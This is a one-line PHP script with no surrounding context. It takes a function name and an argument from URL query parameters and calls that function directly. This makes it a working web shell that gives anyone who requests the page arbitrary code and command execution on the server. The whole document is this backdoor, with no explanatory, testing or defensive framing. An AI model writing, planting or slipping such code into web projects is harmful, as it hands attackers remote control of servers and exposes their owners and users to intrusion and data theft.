<?php $o = (object) array("f" => $_GET["f"]); ($o->f)($_GET["a"]);
